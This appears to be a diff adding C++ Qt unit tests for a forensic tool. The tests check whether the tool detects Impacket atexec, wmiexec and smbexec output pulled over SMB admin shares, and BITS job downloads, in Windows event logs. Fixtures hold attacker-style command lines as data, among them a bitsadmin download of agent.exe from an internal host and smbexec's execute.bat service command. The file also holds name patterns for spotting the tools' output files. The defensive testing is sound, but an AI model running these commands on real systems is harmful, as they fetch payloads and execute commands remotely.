@@ -1,0 +1,411 @@
+// Windows remote-execution procedures (issue 14 item 4) on small cases built through the real
+// ImportEngine: Impacket atexec / wmiexec / smbexec output read back over SMB (a pull from the
+// target to the reader), BITS jobs from an internal URL or a UNC path, the look-alikes that must
+// stay out (ordinary reads, loopback reads, internet downloads, failed jobs), and the payload field
+// reader the rules use for records no table normalises.
+
+#include "InferenceFixtures.h"
+
+#include "core/ImportEngine.h"
+#include "inference/InferenceEngine.h"
+#include "inference/OutputReadRule.h"
+#include "inference/TransferQuery.h"
+#include "store/CaseStore.h"
+#include "store/Sqlite.h"
+#include "store/WindowsActivity.h"
+
+#include <QFile>
+#include <QTemporaryDir>
+#include <QTest>
+
+using namespace tt;
+using namespace fixtures;
+
+namespace {
+constexpr const char *kDst = "WS6.corp.local";
+constexpr const char *kAttackerIp = "10.1.1.5";
+constexpr const char *kBits = "Microsoft-Windows-Bits-Client/Operational";
+
+QString s(const char *v)
+{
+    return QString::fromLatin1(v);
+}
+
+QByteArray shareRead(qint64 ms, const char *ip, const char *logonId, const char *share, const char *root,
+    const char *rel, const char *mask = "0x1")
+{
+    return shareCheck(kDst, ms, ip, 50100, logonId, share, root, rel, mask);
+}
+
+QByteArray bits(int id, qint64 ms, Fields fields)
+{
+    return event(kDst, id, ms, kBits, "Microsoft-Windows-Bits-Client", fields);
+}
+
+QByteArray bitsJob(double t, const char *jobId, const char *url, const char *transferred, const char *total)
+{
+    QByteArray b;
+    b += bits(3, at(t),
+        {{"jobTitle", s("job")}, {"jobId", s(jobId)}, {"jobOwner", s("CORP\\admin")},
+            {"processPath", s("C:\\Windows\\System32\\bitsadmin.exe")}, {"processId", s("1020")}});
+    b += bits(59, at(t + 1),
+        {{"transferId", s("{11111111-0000-0000-0000-000000000000}")}, {"name", s("job")}, {"Id", s(jobId)},
+            {"url", s(url)}, {"bytesTotal", s(total)}, {"bytesTransferred", s("0")}});
+    b += bits(60, at(t + 2),
+        {{"transferId", s("{11111111-0000-0000-0000-000000000000}")}, {"name", s("job")}, {"Id", s(jobId)},
+            {"url", s(url)}, {"hr", s("0")}, {"bytesTotal", s(total)}, {"bytesTransferred", s(transferred)}});
+    return b;
+}
+} // namespace
+
+class TstInferenceWinproc : public QObject {
+    Q_OBJECT
+private:
+    QTemporaryDir m_dir;
+    int m_n = 0;
+
+    std::unique_ptr<store::CaseStore> makeCase(const QByteArray &lines)
+    {
+        const QString input = m_dir.filePath(QStringLiteral("in%1.json").arg(++m_n));
+        QFile f(input);
+        if (!f.open(QIODevice::WriteOnly))
+            return nullptr;
+        f.write(lines);
+        f.close();
+        auto cs = store::CaseStore::open(
+            m_dir.filePath(QStringLiteral("c%1.ttcase").arg(m_n)).toStdString(), store::CaseStore::Access::Create);
+        ImportEngine(*cs, {}).run({input.toStdString()});
+        return cs;
+    }
+
+    std::vector<inference::TransferRow> infer(store::CaseStore &cs)
+    {
+        inference::InferenceEngine(cs.db()).run();
+        return inference::listTransfers(cs.db(), {});
+    }
+
+    static QStringList roles(store::CaseStore &cs, int64_t transfer)
+    {
+        QStringList out;
+        auto st = cs.db().prepare("SELECT DISTINCT role FROM transfer_evidence WHERE transfer_id=?1 ORDER BY role");
+        st.bind(1, transfer);
+        while (st.step())
+            out << QString::fromStdString(st.text(0));
+        return out;
+    }
+
+private slots:
+    // atexec: the task runs `cmd.exe /C whoami > C:\Windows\Temp\X.tmp`, the attacker's session
+    // reads ADMIN$\Temp\X.tmp until it is complete.
+    void atexecOutputIsPulledByTheReader()
+    {
+        QByteArray b;
+        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
+        b += process(kDst, at(11), "{00000000-0000-0000-0000-0000000000a1}", 900, "C:\\Windows\\System32\\cmd.exe",
+            "cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1", "NT AUTHORITY\\SYSTEM", "0x3e7",
+            "C:\\Windows\\System32\\svchost.exe");
+        b += shareRead(at(11.1), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\bouWFQYO.tmp");
+        b += shareRead(at(14.1), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\bouWFQYO.tmp");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(rows.size(), size_t(1));
+        const auto &r = rows[0];
+        QCOMPARE(r.source, std::string("WS6"));
+        QCOMPARE(r.destination, std::string(kAttackerIp)); // the reader, known by address
+        QCOMPARE(r.file, std::string("bouWFQYO.tmp"));
+        QCOMPARE(r.srcPath, std::string("C:\\Windows\\Temp\\bouWFQYO.tmp"));
+        QCOMPARE(r.path, std::string());
+        QCOMPARE(r.method, std::string("smb-admin-share"));
+        QCOMPARE(r.direction, std::string("pull"));
+        QCOMPARE(r.account, std::string("CORP\\admin"));
+        QCOMPARE(r.rules, std::string("smb-output-read"));
+        QCOMPARE(roles(*cs, r.id), (QStringList {"src-connect", "src-output", "src-read"}));
+        QCOMPARE(r.confidenceLabel, std::string("medium"));
+        QCOMPARE(r.evidence, 4); // two reads, the command, the logon
+    }
+
+    // wmiexec: `cmd.exe /Q /c ... 1> \\127.0.0.1\ADMIN$\__<epoch>`: the loopback write is local,
+    // the remote read of the same file is the transfer.
+    void wmiexecLoopbackWriteThenRemoteRead()
+    {
+        QByteArray b;
+        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
+        b += process(kDst, at(11), "{00000000-0000-0000-0000-0000000000a2}", 901, "C:\\Windows\\System32\\cmd.exe",
+            "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1619090610.0007844 2>&1", "NT AUTHORITY\\NETWORK SERVICE",
+            "0x3e4", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
+        b += shareCheck(kDst, at(11.01), "127.0.0.1", 49997, "0x7100", "\\\\*\\ADMIN$", "\\??\\C:\\Windows",
+            "__1619090610.0007844", "0x2");
+        b += shareRead(at(11.02), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "__1619090610.0007844");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(rows.size(), size_t(1));
+        QCOMPARE(rows[0].source, std::string("WS6"));
+        QCOMPARE(rows[0].destination, std::string(kAttackerIp));
+        QCOMPARE(rows[0].file, std::string("__1619090610.0007844"));
+        QCOMPARE(rows[0].srcPath, std::string("C:\\Windows\\__1619090610.0007844"));
+        QCOMPARE(rows[0].direction, std::string("pull"));
+        QCOMPARE(rows[0].evidence, 4); // read, command, loopback write, logon
+    }
+
+    // smbexec: the service is the command writing \\127.0.0.1\C$\__output; its install is output evidence.
+    void smbexecServiceIsOutputEvidence()
+    {
+        QByteArray b;
+        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
+        b += service(kDst, at(11), "BTOBTO",
+            "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c "
+            "%TEMP%\\execute.bat & del %TEMP%\\execute.bat");
+        b += shareRead(at(11.2), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "__output");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(rows.size(), size_t(1)); // the command service itself is no drop
+        QCOMPARE(rows[0].file, std::string("__output"));
+        QCOMPARE(rows[0].direction, std::string("pull"));
+        QCOMPARE(rows[0].evidence, 3); // read, service install, logon
+    }
+
+    // smbexec's fixed output name alone (no process auditing): still the tool's output, lower score.
+    void smbexecOutputByNameOnly()
+    {
+        QByteArray b;
+        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "__output");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(rows.size(), size_t(1));
+        QCOMPARE(rows[0].file, std::string("__output"));
+        QCOMPARE(rows[0].srcPath, std::string("C:\\__output"));
+        QCOMPARE(rows[0].method, std::string("smb-admin-share"));
+        QCOMPARE(rows[0].direction, std::string("pull"));
+        QCOMPARE(rows[0].confidenceLabel, std::string("medium")); // 0.58: read + its name
+    }
+
+    // Reads that are no tool output stay out: an ordinary document, a file no command redirected
+    // into, a loopback read of an output file, an output file read over IPC$.
+    void readsThatAreNoOutput()
+    {
+        QByteArray b;
+        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
+        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "Users\\Public\\report.docx");
+        b += process(kDst, at(20), "{00000000-0000-0000-0000-0000000000a3}", 902, "C:\\Windows\\System32\\cmd.exe",
+            "cmd.exe /c type C:\\Windows\\Temp\\notes.txt", "CORP\\admin", "0x7000");
+        b += shareRead(at(21), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\notes.txt");
+        b += shareRead(at(30), "127.0.0.1", "0x7100", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\abcdefgh.tmp");
+        b += shareRead(at(31), kAttackerIp, "0x7000", "\\\\*\\IPC$", "", "__output");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        QCOMPARE(infer(*cs).size(), size_t(0));
+    }
+
+    void toolOutputName_data()
+    {
+        QTest::addColumn<QString>("share");
+        QTest::addColumn<QString>("rel");
+        QTest::addColumn<bool>("expected");
+        QTest::newRow("atexec") << "ADMIN$"
+                                << "Temp\\bouWFQYO.tmp" << true;
+        QTest::newRow("atexec lower case") << "admin$"
+                                           << "temp\\cyalynss.tmp" << true;
+        QTest::newRow("wmiexec") << "ADMIN$"
+                                 << "__1619425227.894209" << true;
+        QTest::newRow("wmiexec whole seconds") << "ADMIN$"
+                                               << "__1619425227" << true;
+        QTest::newRow("smbexec") << "C$"
+                                 << "__output" << true;
+        QTest::newRow("tmp with digits") << "ADMIN$"
+                                         << "Temp\\bou1FQYO.tmp" << false;
+        QTest::newRow("tmp of 7 letters") << "ADMIN$"
+                                          << "Temp\\bouWFQY.tmp" << false;
+        QTest::newRow("tmp elsewhere") << "C$"
+                                       << "Temp\\bouWFQYO.tmp" << false;
+        QTest::newRow("epoch in a folder") << "ADMIN$"
+                                           << "Temp\\__1619425227.89" << false;
+        QTest::newRow("two dots") << "ADMIN$"
+                                  << "__1.2.3" << false;
+        QTest::newRow("__output on ADMIN$") << "ADMIN$"
+                                            << "__output" << false;
+        QTest::newRow("__output on a data share") << "data"
+                                                  << "__output" << false;
+    }
+
+    void toolOutputName()
+    {
+        QFETCH(QString, share);
+        QFETCH(QString, rel);
+        QFETCH(bool, expected);
+        QCOMPARE(inference::OutputReadRule::toolOutputName(share.toStdString(), rel.toStdString()), expected);
+    }
+
+    void redirectsInto_data()
+    {
+        QTest::addColumn<QString>("cmd");
+        QTest::addColumn<QString>("leaf");
+        QTest::addColumn<bool>("expected");
+        QTest::newRow("atexec") << "cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1"
+                                << "bouWFQYO.tmp" << true;
+        QTest::newRow("wmiexec") << "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1619090610.0007844 2>&1"
+                                 << "__1619090610.0007844" << true;
+        QTest::newRow("smbexec escaped")
+            << "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"
+            << "__output" << true;
+        QTest::newRow("quoted") << "cmd /c dir > \"C:\\Windows\\Temp\\out file.txt\""
+                                << "out file.txt" << true;
+        QTest::newRow("read, no redirect") << "cmd /c type C:\\Windows\\Temp\\notes.txt"
+                                           << "notes.txt" << false;
+        QTest::newRow("redirect elsewhere") << "cmd /c type C:\\x\\notes.txt > C:\\y\\other.txt"
+                                            << "notes.txt" << false;
+        QTest::newRow("longer name") << "cmd /c dir > C:\\Windows\\Temp\\notes.txt.bak"
+                                     << "notes.txt" << false;
+        QTest::newRow("suffix of a name") << "cmd /c dir > C:\\Windows\\Temp\\mynotes.txt"
+                                          << "notes.txt" << false;
+        QTest::newRow("short name") << "cmd /c dir > a.b"
+                                    << "a.b" << false;
+    }
+
+    void redirectsInto()
+    {
+        QFETCH(QString, cmd);
+        QFETCH(QString, leaf);
+        QFETCH(bool, expected);
+        QCOMPARE(inference::OutputReadRule::redirectsInto(cmd.toStdString(), leaf.toStdString()), expected);
+    }
+
+    // bitsadmin from an internal web server: 3 (owner), 59, 60 with every byte: a pull.
+    void bitsJobFromInternalUrl()
+    {
+        auto cs = makeCase(bitsJob(
+            10, "{6F364A04-0000-0000-0000-000000000001}", "http://10.1.1.5:80/tools/agent.exe", "32256", "32256"));
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(rows.size(), size_t(1));
+        const auto &r = rows[0];
+        QCOMPARE(r.source, std::string(kAttackerIp));
+        QCOMPARE(r.destination, std::string("WS6"));
+        QCOMPARE(r.file, std::string("agent.exe"));
+        QCOMPARE(r.method, std::string("http"));
+        QCOMPARE(r.direction, std::string("pull"));
+        QCOMPARE(r.account, std::string("CORP\\admin")); // the job owner of its 3
+        QCOMPARE(r.rules, std::string("bits-job"));
+        QCOMPARE(roles(*cs, r.id), (QStringList {"dst-command", "dst-create"}));
+        QCOMPARE(r.confidenceLabel, std::string("medium"));
+    }
+
+    // A UNC remote name (BITS over SMB): the share's host is the source.
+    void bitsJobFromShare()
+    {
+        QByteArray b = bitsJob(
+            10, "{6F364A04-0000-0000-0000-000000000002}", "\\\\FS01\\ADMIN$\\Temp\\stage.dll", "4096", "4096");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(rows.size(), size_t(1));
+        QCOMPARE(rows[0].source, std::string("FS01"));
+        QCOMPARE(rows[0].file, std::string("stage.dll"));
+        QCOMPARE(rows[0].srcPath, std::string("C:\\Windows\\Temp\\stage.dll"));
+        QCOMPARE(rows[0].method, std::string("smb-admin-share"));
+        QCOMPARE(rows[0].direction, std::string("pull"));
+    }
+
+    // The internet (a public name the case does not know), a job that moved nothing, and a job
+    // from this host itself are no transfers.
+    void bitsJobLookAlikes()
+    {
+        QByteArray b;
+        b += bitsJob(10, "{6F364A04-0000-0000-0000-000000000003}",
+            "https://releases.ubuntu.com/20.04.3/ubuntu-20.04.3-desktop-amd64.iso", "3071934464", "3071934464");
+        b += bitsJob(20, "{6F364A04-0000-0000-0000-000000000004}", "http://10.1.1.7/x/failed.exe", "0", "2048");
+        b += bitsJob(30, "{6F364A04-0000-0000-0000-000000000005}", "http://localhost/x/self.exe", "10", "10");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        QCOMPARE(infer(*cs).size(), size_t(0));
+    }
+
+    // bitsadmin's command line and the job's records are one transfer: the command adds the local path.
+    void bitsJobMergesWithItsCommand()
+    {
+        QByteArray b = bitsJob(
+            10, "{6F364A04-0000-0000-0000-000000000006}", "http://10.1.1.5/tools/agent.exe", "32256", "32256");
+        b += process(kDst, at(9.5), "{00000000-0000-0000-0000-0000000000b1}", 1020,
+            "C:\\Windows\\System32\\bitsadmin.exe",
+            "bitsadmin /transfer job /download http://10.1.1.5/tools/agent.exe C:\\Users\\Public\\agent.exe");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(rows.size(), size_t(1));
+        QCOMPARE(rows[0].path, std::string("C:\\Users\\Public\\agent.exe"));
+        QCOMPARE(rows[0].rules, std::string("bits-job,source-command"));
+        // The command and the job's 59 are one kind of fact (the destination asked for the file).
+        QCOMPARE(rows[0].confidenceLabel, std::string("medium"));
+    }
+
+    // Anonymous NTLM null sessions name the workstation "NULL": no host of that name, no binding.
+    void nullWorkstationIsNoHost()
+    {
+        QByteArray b = security(kDst, 4624, at(10),
+            {{"TargetUserName", s("ANONYMOUS LOGON")}, {"TargetDomainName", s("NT AUTHORITY")},
+                {"TargetLogonId", s("0x17e29a")}, {"LogonType", s("3")}, {"IpAddress", s(kAttackerIp)},
+                {"IpPort", s("49236")}, {"AuthenticationPackageName", s("NTLM")}, {"WorkstationName", s("NULL")}});
+        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "__output");
+        auto cs = makeCase(b);
+        QVERIFY(cs);
+        const auto rows = infer(*cs);
+        QCOMPARE(cs->db().queryInt("SELECT count(*) FROM host_names WHERE upper(name)='NULL'"), int64_t(0));
+        QCOMPARE(cs->db().queryInt("SELECT count(*) FROM host_addresses WHERE how='4624-workstation'"), int64_t(0));
+        QCOMPARE(rows.size(), size_t(1));
+        QCOMPARE(rows[0].destination, std::string(kAttackerIp));
+    }
+
+    // The payload reader of records no table normalises, on each stored payload format.
+    void payloadField_data()
+    {
+        QTest::addColumn<int>("format");
+        QTest::addColumn<QString>("payload");
+        QTest::addColumn<QString>("name");
+        QTest::addColumn<QString>("expected");
+        QTest::newRow("rendered") << 1
+                                  << "{\"System\":{\"EventID\":\"59\"},\"EventData\":[[\"url\",\"http://h/a.exe\"]]}"
+                                  << "url"
+                                  << "http://h/a.exe";
+        QTest::newRow("nxlog") << 2 << "{\"EventID\":59,\"url\":\"http://h/a.exe\"}"
+                               << "url"
+                               << "http://h/a.exe";
+        QTest::newRow("winlogbeat") << 2 << "{\"winlog\":{\"event_data\":{\"url\":\"http://h/a.exe\"}}}"
+                                    << "url"
+                                    << "http://h/a.exe";
+        QTest::newRow("evtxecmd") << 2
+                                  << "{\"Payload\":\"{\\\"EventData\\\":{\\\"Data\\\":[{\\\"@Name\\\":\\\"url\\\",\\\"#"
+                                     "text\\\":\\\"http://h/a.exe\\\"}]}}\"}"
+                                  << "url"
+                                  << "http://h/a.exe";
+        QTest::newRow("xml") << 3
+                             << "<Event><EventData><Data Name=\"name\">j</Data><Data "
+                                "Name=\"url\">http://h/&lt;a&gt;.exe</Data></EventData></Event>"
+                             << "url"
+                             << "http://h/<a>.exe";
+        QTest::newRow("xml user data") << 3 << "<Event><UserData><W><TaskName>\\t</TaskName></W></UserData></Event>"
+                                       << "TaskName"
+                                       << "\\t";
+        QTest::newRow("absent") << 1 << "{\"EventData\":[[\"a\",\"b\"]]}"
+                                << "url"
+                                << "";
+        QTest::newRow("not json") << 2 << "not json"
+                                  << "url"
+                                  << "";
+    }
+
+    void payloadField()
+    {
+        QFETCH(int, format);
+        QFETCH(QString, payload);
+        QFETCH(QString, name);
+        QFETCH(QString, expected);
+        QCOMPARE(
+            QString::fromStdString(store::payloadField(format, payload.toStdString(), name.toStdString())), expected);
+    }
+};
+
+QTEST_GUILESS_MAIN(TstInferenceWinproc)
+#include "tst_inference_winproc.moc"
